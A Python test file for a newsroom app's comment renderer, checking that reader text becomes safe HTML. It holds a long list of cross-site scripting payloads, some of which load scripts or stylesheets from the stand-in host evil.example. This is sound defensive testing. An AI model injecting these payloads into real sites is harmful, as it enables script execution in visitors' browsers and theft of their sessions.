"""What a reader writes becomes HTML: safe whatever it was.

The attacks are our own rendering of the kinds that DOMPurify's and OWASP's lists hold.
"""

import html
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.effort import amount

from ligzda.newsroom.text import check, render_plain, render_rich
from ligzda.newsroom.text.render import TAGS

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/xss src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<img/src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example' target=_blank onclick=alert(1) style='position:fixed'>x</a>",
    '<a href="https://a.lv/><img src=x onerror=alert(1)>">x</a>',
    "<b style='background:url(javascript:alert(1))'>x</b>",
    "<b onmouseover=alert(1)>x</b>",
    "<p id=main class=masthead>x</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<a name=location>clobber</a><a name=location id=location>",
    "<plaintext>x",
    "[x](javascript:alert(1))",
    '[x](https://a.lv" onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://a.lv)",
    "[x](https://a.lv/'><script>alert(1)</script>)",
    'https://a.lv/"onmouseover=alert(1)//',
    "https://a.lv/<script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&lt;a href='javascript:alert(1)'&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='https://a.lv'>[y](https://b.lv)</a>",
    "\U000f0000 \U000f0001 [a](https://a.lv)",
    "**" * 400 + "a" + "**" * 400,
    "[" * 500 + "](https://a.lv)",
    "<b>" * 300 + "x",
]


class Reader(HTMLParser):
    """Note what a browser would meet."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.met: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.met.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def assert_harmless(text: str) -> None:
    for tag, attributes in Reader(text).met:
        assert tag in TAGS
        if tag == "a":
            assert set(attributes) <= {"href", "rel"}
            assert attributes["rel"] == "ugc nofollow noopener"
            target = (attributes.get("href") or "").strip().lower()
            assert not target.startswith(("javascript", "vbscript", "data"))
        else:
            assert attributes == {}


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_to_nothing(attack: Any) -> None:
    assert_harmless(render_rich(attack))
    plain = Reader(render_plain(attack))
    assert {tag for tag, _ in plain.met} <= {"p", "br"}


def test_a_guests_text_is_shown_as_it_stands() -> None:
    assert render_plain("2 < 3 & &lt;b&gt;\nā\n\nb") == (
        "<p>2 &lt; 3 &amp; &amp;lt;b&amp;gt;<br>ā</p><p>b</p>"
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "**a** un *b*, _c_ `d`",
            "<p><strong>a</strong> un <em>b</em>, <em>c</em> <code>d</code></p>",
        ),
        ("2*3*4 un a_b_c", "<p>2*3*4 un a_b_c</p>"),
        (
            "[šeit](https://a.lv/b_c_d)",
            '<p><a href="https://a.lv/b_c_d" rel="ugc nofollow noopener">šeit</a></p>',
        ),
        (
            "skat. https://a.lv/x?a=1&b=2.",
            (
                '<p>skat. <a href="https://a.lv/x?a=1&amp;b=2" rel="ugc nofollow noopener">'
                "https://a.lv/x?a=1&amp;b=2</a>.</p>"
            ),
        ),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("2 < 3 <3", "<p>2 &lt; 3 &lt;3</p>"),
        ("ja a<b, tad <i>labi</i>", "<p>ja a&lt;b, tad <i>labi</i></p>"),
        ("<a href='//b.lv'>a</a>", '<p><a rel="ugc nofollow noopener">a</a></p>'),
        ("<b>a</b>", "<p><b>a</b></p>"),
        ("`**a**`", "<p><code>**a**</code></p>"),
    ],
)
def test_a_registered_reader_may_use_a_little_markdown(text: str, shown: str) -> None:
    assert render_rich(text) == shown


@settings(max_examples=amount(150, nightly=5000))
@given(
    st.text(alphabet=st.sampled_from(list("<>/ab \"'=[]()*_`-\n&;:.hrefl\U000f0000ā")), max_size=80)
)
def test_whatever_is_written_stays_harmless(text: str) -> None:
    assert_harmless(render_rich(text))


@pytest.mark.slow
@settings(max_examples=amount(150, nightly=5000))
@given(st.text(max_size=300))
def test_a_guests_words_are_never_lost(text: str) -> None:
    def words(of: str) -> str:
        return of.replace("\n", "").replace("\r", "")

    assert words(Reader(render_plain(text)).words) == words(text)


@pytest.mark.slow
@settings(max_examples=amount(150, nightly=5000))
@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                "<b>",
                "</b>",
                "<i",
                "a",
                "ļ",
                " ",
                "\n",
                "&lt;",
                "&",
                ">",
                "<3",
                "*",
                "`",
                "b<c ",
            ]
        ),
        max_size=20,
    ).map("".join)
)
def test_no_word_of_a_registered_reader_is_lost(text: Any) -> None:
    """Where the rules let a text pass, every letter outside its tags is shown."""
    if check(text, registered=True).broken:
        return
    bare = html.unescape(re.sub(r"</?[abi]\b[^<>]*>", "", text))
    shown = Reader(render_rich(text)).words
    assert [char for char in shown if char.isalnum()] == [char for char in bare if char.isalnum()]
